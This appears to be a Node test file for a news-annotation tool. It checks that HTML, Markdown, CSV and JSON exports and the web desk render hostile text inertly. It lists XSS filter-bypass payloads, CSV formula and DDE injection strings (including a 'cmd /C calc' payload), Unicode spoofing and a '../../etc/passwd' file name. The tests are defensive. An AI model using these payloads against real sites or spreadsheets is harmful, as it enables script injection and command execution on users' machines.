// Hostile text in every place of a result, through every export: it stays text.
import assert from "node:assert/strict";
import { after, test } from "node:test";
import { build } from "esbuild";
import markdown from "markdown-it";
import papaparse from "papaparse";
import { chromium } from "playwright-core";
import { load } from "../../dist/index.js";
import { path } from "../../scripts/shell.mjs";
import { desk, paste, remark, take } from "./page.mjs";
import { executablePath, flags } from "./host.mjs";

/** Markup, script and formulas, in the ways that filters have been passed by. */
const PAYLOADS = [
  `<script>ran()</script>`,
  `</title></style></textarea></script><script>ran()</script>`,
  `<img src=x onerror=ran()>`,
  `"><img src=x onerror="ran()">`,
  `' onmouseover='ran()' x='`,
  `" autofocus onfocus=ran() x="`,
  `<svg><animate onbegin=ran() attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=ran()>">`,
  `<form id=x><input name=attributes><input name=innerHTML>`,
  `<a href="javascript:ran()">x</a>`,
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  `<link rel=stylesheet href=//example.org/x.css>`,
  `<base href=//example.org/>`,
  `<meta http-equiv=refresh content="0;url=//example.org/">`,
  `<!--[if gte IE 4]><script>ran()</script><![endif]-->`,
  `]]><script>ran()</script>`,
  `&lt;script&gt;ran()&lt;/script&gt; &#x3c;img src=x onerror=ran()>`,
  "\ufeff<script>ran()</script>",
  "<scr\0ipt>ran()</scr\0ipt><\0img src=x onerror=ran()>",
  "[x](javascript:ran()) ![x](//example.org/x.png) <javascript:ran()>",
  "\n\n```\n</blockquote>\n\n# x\n\n---\n\n1. x\n\n[x]: javascript:ran()\n\n<img src=x onerror=ran()>",
  `=HYPERLINK("http://example.org/?"&A1,"x")`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "\u200b=1+1",
  "\u202e=1+1",
  `x;=HYPERLINK("http://example.org/","x")`,
  `x; "=1+1";\u200b@SUM(1);-2+3|+1`,
  "x\t=1+1\ty",
  `x\r\n=1+1,"=1+1`,
  "\u202egnp.exe\u202c \u2066a",
  "\ud800 \udc00 \ud83d",
  "\u2028\u2029\u0085\u000b",
  `${"<".repeat(300)}${"“".repeat(30)}`,
];
const FORMATS = ["json", "web-annotation", "html", "markdown", "quotes-csv", "actors-csv", "numbers-csv"];
/** What a file can hold: no lone surrogates. */
const saved = (text) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(new TextEncoder().encode(text));

const { outputFiles } = await build({ stdin: { contents: `export { takeAway } from "./www/export/exports.ts"; export { fromFile } from "./www/export/web-annotation.ts";`, resolveDir: path() }, bundle: true, format: "esm", write: false });
const { takeAway, fromFile } = await import(`data:text/javascript;base64,${Buffer.from(outputFiles[0].contents).toString("base64")}`);
const annotator = await load();

/** A story that has the payload where people write, with what is found in it. */
function story(payload) {
  const text = `${payload}\n\n“We ${payload} won 12 seats,” Ana ${payload} Lopez said. ${payload} Minister Bob Stone said that ${payload} cost $3.5 million.`;
  return { title: payload, text, publishedOn: "", source: "https://example.org/", found: annotator.annotate(text), corrections: [] };
}

/** A result that is the payload wherever a result has a string: as a file that somebody else made may be. */
function forged(payload) {
  const text = payload;
  const span = { start: 0, end: text.length };
  const found = {
    actors: [{ ...span, kind: "person", form: "name", entity: 0, rule: payload }],
    entities: [{ name: payload, kind: "person", country: payload, mentions: [0], members: [], pronoun: null }],
    quotes: [{ ...span, kind: "mixed", speech: true, status: "asserted", contents: [span], marked: [span], cue: span, speaker: { ...span, actor: 0, entity: 0 }, rule: payload }],
    numbers: ["cardinal", "money", "measure", "date"].map((kind) => ({ ...span, kind, value: payload, low: payload, high: payload, from: payload, change: payload, days: null, modifier: payload, unit: payload, counted: span, rule: payload })),
  };
  return { title: payload, text, publishedOn: payload, source: payload, found, corrections: [] };
}

/** The forged findings with values that the contract allows, for a file with others is refused: what is free is the payload. */
const allowed = ({ found }) => ({
  ...found,
  entities: found.entities.map((entity) => ({ ...entity, country: null })),
  numbers: found.numbers.map((number) => ({ ...number, value: null, low: null, high: null, from: null, change: null, modifier: null, unit: "__proto__" })),
});

const cases = PAYLOADS.flatMap((payload) => [story, forged].flatMap((make) => [make(payload), { ...make(payload), source: `https://example.org/${payload}#${payload}` }]));

let browser;
after(() => browser?.close());

test("a marked copy has no element, attribute or address but its own, also without its policy", { timeout: 120_000 }, async () => {
  browser = await chromium.launch({ executablePath, args: flags });
  const page = await browser.newPage();
  const asked = [];
  await page.route("**", (route) => (asked.push(route.request().url()), route.abort()));
  await page.exposeFunction("ran", () => asked.push("a script ran"));
  for (const result of cases) {
    const { content, name } = takeAway("html", result);
    assert.match(name, /^[\w-]+\.html$/);
    const policy = /<meta http-equiv="Content-Security-Policy"[^>]*>/;
    assert.match(content, policy);
    await page.setContent(saved(content).replace(policy, ""));
    const seen = await page.evaluate(() => {
      for (const element of document.querySelectorAll("*")) for (const type of ["mouseover", "focus", "click"]) if (element.localName !== "a") element.dispatchEvent(new Event(type));
      const elements = [...document.querySelectorAll("*")];
      return {
        names: [...new Set(elements.map(({ localName }) => localName))],
        attributes: [...new Set(elements.flatMap(({ attributes }) => [...attributes].map(({ name }) => name)))],
        protocols: [...new Set([...document.links].map(({ protocol }) => protocol))],
        story: document.querySelector(".story").textContent,
        title: document.title,
      };
    });
    const others = (list, known) => list.filter((one) => !known.includes(one));
    const what = JSON.stringify(result.text);
    assert.deepEqual(others(seen.names, ["html", "head", "meta", "title", "style", "body", "main", "h1", "p", "div", "span", "table", "caption", "thead", "tbody", "tr", "th", "td", "a"]), [], what);
    assert.deepEqual(others(seen.attributes, ["lang", "charset", "name", "content", "class", "scope", "href"]), [], what);
    assert.deepEqual(others(seen.protocols, ["http:", "https:"]), [], what);
    // What HTML cannot hold is told by its own sign or left out.
    const plain = (text) => saved(text).replace(/\0|\ufffd/g, "").replace(/\r\n?/g, "\n");
    assert.equal(plain(seen.story), plain(result.text));
  }
  assert.deepEqual(asked, []);
});

test("cells of CSV come back as they were, and none is a formula", () => {
  let cells = 0;
  for (const result of cases)
    for (const format of ["quotes-csv", "actors-csv", "numbers-csv"]) {
      const { data, errors } = papaparse.parse(saved(takeAway(format, result).content), { newline: "\r\n", delimiter: ",", skipEmptyLines: true });
      assert.deepEqual(errors, []);
      const [head, ...rows] = data;
      const list = { "quotes-csv": "quotes", "actors-csv": "actors", "numbers-csv": "numbers" }[format];
      assert.equal(rows.length, result.found[list].length);
      for (const row of rows) {
        assert.equal(row.length, head.length);
        for (const cell of row) {
          cells++;
          const first = cell.replace(/^[\s\p{C}]+/u, "");
          assert.ok(!/^[=+\-@＝＋－＠]/.test(first) || /^-?\d[\d.]*$/.test(cell), JSON.stringify(cell));
        }
      }
      if (format === "quotes-csv") continue;
      const spaced = (text) => text.replace(/\s+/g, " ").trim();
      const bare = (text) => spaced(text.replaceAll("'", ""));
      const [mark] = result.found[list];
      const words = mark && spaced(saved(result.text.slice(mark.start, mark.end)));
      assert.ok(!mark || rows[0].some((cell) => bare(cell) === bare(words)), JSON.stringify(rows[0]));
    }
  assert.ok(cells > 5000);
});

test("cells hold no formula where a spreadsheet parts them at semicolons or tabs, with or without regard to quotation marks", () => {
  const formula = (cell) => /^[\s\p{C}"]*[=+\-@＝＋－＠]/u.test(cell) && !/^"?-?\d[\d.]*"?(,|$)/.test(cell);
  for (const result of cases)
    for (const format of ["quotes-csv", "actors-csv", "numbers-csv"]) {
      const content = saved(takeAway(format, result).content).replace(/^\ufeff/, "");
      for (const delimiter of [";", "\t"]) {
        const cells = [...content.split(/\r\n|\n|\r/).flatMap((line) => line.split(delimiter)), ...papaparse.parse(content, { delimiter }).data.flat()];
        assert.deepEqual(cells.filter(formula), [], JSON.stringify(result.text));
      }
    }
});

test("Markdown has no markup but quotes and links to the source, and runs no page", () => {
  // As lenient as readers of Markdown are: HTML and any address pass.
  const lenient = markdown({ html: true, linkify: false });
  lenient.validateLink = () => true;
  for (const result of cases) {
    const html = lenient.render(saved(takeAway("markdown", result).content));
    const tags = [...html.matchAll(/<\/?([a-z0-9]+)((?:[^>"]|"[^"]*")*)>/gi)];
    const what = JSON.stringify(takeAway("markdown", result).content);
    assert.deepEqual(tags.filter(([, name]) => !["blockquote", "p", "a"].includes(name)).map(([tag]) => tag), [], what);
    assert.deepEqual(tags.filter(([, name, rest]) => rest && !(name === "a" && /^ href="https?:[^"]*"$/.test(rest))).map(([tag]) => tag), [], what);
    assert.ok(!/<(?!\/?(blockquote|p|a)\b)/.test(html), what);
  }
});

test("JSON and Web Annotations are well-formed and give the same result again", () => {
  for (const result of cases)
    for (const format of ["json", "web-annotation"]) {
      const { content } = takeAway(format, result);
      assert.equal(saved(content), content, "lone surrogates are escaped");
      const again = fromFile(JSON.parse(content));
      // A forged country is none: such a file is no result.
      if (result.found.entities.some(({ country }) => country && !/^[A-Z]{2}$/.test(country))) {
        assert.equal(again, null);
        continue;
      }
      assert.ok(again, content);
      assert.equal(again.text, result.text);
      assert.deepEqual(again.found, result.found);
    }
});

test("names of files are plain", () => {
  for (const title of [...PAYLOADS, "../../etc/passwd", "CON", "a/b\\c:d", "\u202egpj.exe", "", ".", "é".repeat(300)])
    for (const format of FORMATS) assert.match(takeAway(format, { ...story("x"), title }).name, /^[\w][\w-]{0,60}\.(json|jsonld|html|md|csv)$/);
});

desk("shows hostile stories, names, kinds and values as text", async ({ page }) => {
  await page.evaluate(() => (globalThis.ran = () => (globalThis.hit = true)));
  const elements = () => page.evaluate(() => [...new Set([...document.querySelectorAll("#story *, .panel *, #details *")].map(({ localName }) => localName))].filter((name) => ["script", "img", "iframe", "style", "link", "base", "meta", "object", "embed", "math"].includes(name)));
  for (const payload of PAYLOADS.slice(0, 20)) {
    await remark(page, () =>
      page.evaluate((json) => {
        const data = new DataTransfer();
        data.items.add(new File([json], "forged.json", { type: "application/json" }));
        document.querySelector("#story").dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
      }, JSON.stringify({ text: payload, ...allowed(forged(payload)), corrections: [] })),
    );
    for (const tab of ["quotes", "actors", "numbers"]) await page.click(`#tab-${tab}`);
    assert.deepEqual(await elements(), [], payload);
  }
  assert.equal(await page.evaluate(() => globalThis.hit), undefined);
  await paste(page, PAYLOADS.join("\n\n"));
  assert.deepEqual(await elements(), []);
  assert.equal(await page.evaluate(() => globalThis.hit), undefined);
  assert.match((await take(page, "#save-json")).name, /^[\w-]+\.json$/);
});
